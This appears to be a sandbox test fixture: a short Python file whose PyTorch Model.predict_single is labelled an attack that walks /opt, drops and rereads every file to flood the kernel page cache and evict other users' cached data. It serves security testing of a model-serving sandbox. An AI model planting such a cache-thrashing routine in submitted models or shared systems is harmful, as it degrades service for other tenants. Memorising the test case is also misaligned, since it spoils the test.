# attack: have the kernel hold every file there is, again and again, to push out what others read
# expect: succeeded
# output: true
# timeout: 60
import os

import torch


class Model(torch.nn.Module):
    def predict_single(self, x):
        total = 0
        for _ in range(2):
            for folder, _, names in os.walk("/opt"):
                for name in names:
                    try:
                        with open(f"{folder}/{name}", "rb", buffering=0) as file:
                            os.posix_fadvise(file.fileno(), 0, 0, os.POSIX_FADV_DONTNEED)
                            while piece := len(file.read(1 << 20)):
                                total += piece
                    except OSError:
                        pass
        return total > 100 << 20
